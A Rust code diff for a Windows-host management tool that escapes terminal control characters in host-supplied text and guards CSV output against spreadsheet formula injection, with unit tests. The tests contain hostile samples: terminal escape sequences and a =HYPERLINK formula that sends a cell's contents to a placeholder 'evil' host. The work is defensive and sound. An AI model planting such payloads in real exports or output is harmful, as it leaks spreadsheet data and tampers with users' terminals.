@@ -14,8 +14,32 @@ use super::ops::{HostOutput, Op};
 /// One host's outcome.
 pub type HostResult = (String, Result<HostOutput, winrm_ipmi::Error>);
 
-/// What to tell a person about a failure.
+/// `text` with every control character but line feed and tab (C0, DEL, C1) written as `\xNN`
+/// (C1 as `\u{NN}`): what a host sends cannot move the cursor, retitle or clear a terminal.
+pub fn printable(text: &str) -> std::borrow::Cow<'_, str> {
+    let control = |c: char| c.is_control() && c != '\n' && c != '\t';
+    if !text.contains(control) {
+        return std::borrow::Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len() + 8);
+    for c in text.chars() {
+        if !control(c) {
+            out.push(c);
+        } else if (c as u32) < 0x80 {
+            out.push_str(&format!("\\x{:02x}", c as u32));
+        } else {
+            out.push_str(&format!("\\u{{{:x}}}", c as u32));
+        }
+    }
+    std::borrow::Cow::Owned(out)
+}
+
+/// A failure in words, for a person (control characters escaped, see [`printable`]).
 pub fn explain(host: &str, e: &winrm_ipmi::Error) -> String {
+    printable(&explain_raw(host, e)).into_owned()
+}
+
+fn explain_raw(host: &str, e: &winrm_ipmi::Error) -> String {
     match e.kind() {
         ErrorKind::AccessDenied => {
             format!("access denied: the account must be a local administrator on {host} ({e})")
@@ -111,10 +135,13 @@ impl<'o> Printer<'o> {
     }
 
     /// Text on standard output, around the progress bar; a closed output is not an error.
+    /// Control characters (a host's strings: OS caption, FRU fields, sensor names) are written
+    /// as `\xNN`, never raw to a terminal.
     fn write(&mut self, text: &str) {
         if self.closed {
             return;
         }
+        let text = &*printable(text);
         let write = || {
             let mut out = std::io::stdout().lock();
             out.write_all(text.as_bytes()).and_then(|()| out.flush())
@@ -321,10 +348,55 @@ fn table_lines(rows: &[Vec<String>]) -> Vec<String> {
     lines
 }
 
+/// A CSV field (RFC 4180): quoted when it holds a comma, quote, CR or LF. A field a
+/// spreadsheet would take for a formula (starting with `=`, `+`, `-`, `@`, tab or CR) gets a
+/// leading `'` (OWASP's advice), unless it is a number: a host's strings must not run as
+/// formulas.
 fn csv(s: &str) -> String {
-    if s.contains([',', '"', '\n']) {
+    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && s.parse::<f64>().is_err();
+    let s = if formula {
+        std::borrow::Cow::Owned(format!("'{s}"))
+    } else {
+        std::borrow::Cow::Borrowed(s)
+    };
+    if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_string()
+        s.into_owned()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_hosts_control_characters_never_reach_the_terminal() {
+        let hostile = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31mRED\u{9b}31m\r\nnext\tcol";
+        let shown = printable(hostile);
+        assert_eq!(
+            shown,
+            "\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mRED\\u{9b}31m\\x0d\nnext\tcol"
+        );
+        assert!(!shown.contains(|c: char| c.is_control() && c != '\n' && c != '\t'));
+        assert!(matches!(
+            printable("plain text\n"),
+            std::borrow::Cow::Borrowed(_)
+        ));
+    }
+
+    #[test]
+    fn csv_fields_are_quoted_and_never_formulas() {
+        assert_eq!(csv("a\rb"), "\"a\rb\"");
+        assert_eq!(csv("a,\"b\""), "\"a,\"\"b\"\"\"");
+        assert_eq!(
+            csv("=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
+            "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""
+        );
+        assert_eq!(csv("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(csv("+1"), "+1"); // a number stays a number
+        assert_eq!(csv("-40.5"), "-40.5");
+        assert_eq!(csv("-cmd"), "'-cmd");
+        assert_eq!(csv("Fan2A"), "Fan2A");
     }
 }
